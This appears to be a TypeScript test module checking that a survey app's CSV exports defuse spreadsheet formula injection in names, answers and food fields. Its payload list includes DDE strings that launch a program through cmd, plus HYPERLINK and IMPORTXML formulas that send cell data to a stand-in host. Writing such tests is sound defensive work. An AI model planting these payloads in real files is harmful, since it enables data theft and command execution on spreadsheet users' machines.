import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { query, sql } from '../../../src/db/sql.ts';
import type { Input } from '../../contract/questions/questions.ts';
import { call } from '../../support/http.ts';
import { recall } from '../../support/recall.ts';
import type { Ground } from './ground.ts';
import { effectsOf } from './tally.ts';

/** A spreadsheet would calculate each of these, or hand it to a program. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1:A9),"//a")',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  // Not at the start: there the driver of the embedded database takes it for a byte order mark.
  ' \uFEFF=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '"=1+1',
  '","=1+1',
  '"\r\n=1+1,',
  "'=1+1",
  '=',
  '-',
  '-5',
  '+44 191 498 0000',
];

/** A sign at the start, in full width too, behind blanks; or a control character. */
const BEGINS = /^(?:\s*[=+\-@\uFF0B\uFF0D\uFF1D\uFF20]|[\t\r\n])/;

/** Whether a spreadsheet runs the cell; a number it does not. */
const isRun = (cell: string) => BEGINS.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

/** A text that would be run gets an apostrophe before it, and so does a number in a text (docs/reference/export.md). */
const neutralised = (text: string) => (BEGINS.test(text) ? `'${text}` : text);

type Row = Record<string, string>;

export function formulaInjection(ground: () => Ground): void {
  const rowsOf = (text: string) => parse<Row>(text, { columns: true, bom: true, relax_column_count: false });

  /** Cells that a spreadsheet would run, by their columns. */
  const runIn = (rows: readonly Row[]) =>
    rows.flatMap((row) => Object.entries(row).flatMap(([name, cell]) => [name, cell].filter(isRun)));

  test('the check finds cells that a spreadsheet runs', () => {
    const cells = FORMULAS.filter((formula) => !/^("|'|-5$)/.test(formula));
    expect(runIn(cells.map((cell) => ({ cell })))).toEqual(cells);
    expect(runIn([{ cell: '-5' }, { cell: 'a=1' }, { cell: "'=1" }])).toEqual([]);
  });

  /** A survey of its own with a recall of this text in every field that takes it. */
  const submitted = async (text: string) => {
    const { app, base, world } = ground();
    const survey = await app.given.survey({ locale: world.locale, allowPersonalData: true });
    const person = await app.given.respondent(survey, { name: text });
    const { id: user } = person;
    const fields = JSON.stringify({ [text]: text });
    await query(app.context().em, sql`update user_account set custom_fields = ${fields}::jsonb where id = ${user}`);
    const [meal] = recall(survey, [{ code: 'MILK', servingWeight: 200 }]).meals;
    const [food] = meal?.foods ?? [];
    const custom = { [text]: text };
    const unknown = { name: text, brand: text, description: text, portionSize: text, leftovers: text };
    const body: Input = {
      ...recall(survey, []),
      customData: custom,
      meals: [
        {
          ...meal,
          name: text,
          customData: custom,
          foods: [{ ...food, searchTerm: text, brand: text, customData: custom }],
          missingFoods: [unknown],
        },
      ],
    };
    // A header is trimmed and cannot have characters beyond Latin 1.
    const agent = /^[\x21-\x7E][\x20-\x7E]*$/.test(text) ? text : '=1+1';
    const url = `${base}/api/surveys/${survey.slug}/submissions`;
    const headers = { 'user-agent': agent };
    const answer = await call('POST', url, { token: await app.tokenFor(user), body, headers });
    expect([answer.status, answer.text]).toEqual([200, expect.any(String)]);
    const fetched = async (params: string) => {
      const { status, text: file } = await call('GET', `${url}/export?${params}`, { token: ground().tokenOf('admin') });
      expect(status).toBe(200);
      return file;
    };
    return { survey, agent, fetched };
  };

  test('no answer of a respondent is a formula in an export, and JSON keeps it unchanged', async () => {
    const { tally } = ground();
    for (const formula of FORMULAS) {
      const { agent, fetched } = await submitted(formula);
      for (const content of ['items', 'totals', 'missing-foods']) {
        const rows = rowsOf(await fetched(`content=${content}`));
        const lines = (await fetched(`content=${content}&format=ndjson`)).trim().split('\n');
        const json = lines.map((line) => JSON.parse(line) as Input);
        expect(rows.length).toBe(json.length);
        const [row = {}] = rows;
        tally.count(`CSV ${content}`, formula, [
          ...runIn(rows),
          ...effectsOf({
            'the agent is another': row['Device information'] !== neutralised(agent),
            'the meal is another': content === 'items' && row['Meal name'] !== neutralised(formula),
            'the term is another': content === 'items' && row['Search term'] !== neutralised(formula),
            'a number is a text': content === 'items' && row['Serving size (g/ml)'] !== '200',
            'an amount is a text': content === 'items' && row['Energy (kcal)'] !== '128',
            'JSON has another agent': json[0]?.['userAgent'] !== agent,
            'JSON has another meal': content === 'items' && json[0]?.['mealName'] !== formula,
            'JSON has another term': content === 'items' && json[0]?.['searchTerm'] !== formula,
            'JSON has a text for a number': content === 'items' && json[0]?.['servingWeight'] !== 200,
          }),
        ]);
      }
    }
    expect(ground().tally.found()).toEqual([]);
  });

  test('no user name is a formula in a list of links or of respondents', async () => {
    const { app, base, tally, tokenOf, world } = ground();
    const survey = await app.given.survey({ locale: world.locale });
    const token = tokenOf('admin');
    const url = `${base}/api/surveys/${survey.slug}`;
    for (const formula of FORMULAS.filter((text) => !/[\s\p{C}]/u.test(text))) {
      const users = [{ userName: formula }];
      const { status } = await call('POST', `${url}/users/respondents`, { token, body: { users } });
      expect(status).toBe(200);
      const links = rowsOf((await call('GET', `${url}/users/respondents/authentication-urls`, { token })).text);
      const people = rowsOf((await call('GET', `${url}/submissions/export?content=respondents`, { token })).text);
      tally.count('CSV links', formula, [
        ...runIn([...links, ...people]),
        ...effectsOf({
          'the name is another': !links.some((row) => row['Username'] === neutralised(formula)),
          'the name is another among people': !people.some((row) => row['User ID'] === neutralised(formula)),
        }),
      ]);
    }
    expect(ground().tally.found()).toEqual([]);
  });

  test('no description or field of a food list is a formula in an export', async () => {
    const { app, admin, base, tally, tokenOf } = ground();
    const { id: locale } = await app.given.locale();
    const survey = await app.given.survey({ locale });
    const nutrients = { 1: 64 };
    const foods = [];
    for (const description of FORMULAS) {
      const { code } = await app.given.food({ locals: { [locale]: { description, nutrients } } });
      foods.push({ code, servingWeight: 200 });
    }
    await app.settle();
    const { version } = (await admin('GET', `/admin/locales/${locale}/export-columns`)).body as { version: string };
    const fields = FORMULAS.filter((text) => text === text.trim() && !/[\r\n\t]/.test(text));
    const said = { baseVersion: version, nutrientIds: [1], fields };
    const replaced = await admin('PUT', `/admin/locales/${locale}/export-columns`, said);
    expect([replaced.status, replaced.text]).toEqual([200, expect.any(String)]);
    const url = `${base}/api/surveys/${survey.slug}/submissions`;
    const { status } = await call('POST', url, { token: tokenOf('admin'), body: recall(survey, foods) });
    expect(status).toBe(200);
    const { text } = await call('GET', `${url}/export`, { token: tokenOf('admin') });
    const rows = rowsOf(text);
    expect(rows.length).toBe(FORMULAS.length);
    for (const [index, formula] of FORMULAS.entries()) {
      const row = rows[index] ?? {};
      tally.count('CSV food', formula, [
        ...runIn([row]),
        ...effectsOf({
          'the food is another': row['Description (local)'] !== neutralised(formula),
          'the heading is another': fields.includes(formula) && !(neutralised(formula) in row),
          'an amount is a text': row['Energy (kcal)'] !== '128',
        }),
      ]);
    }
    expect(ground().tally.found()).toEqual([]);
  });
}
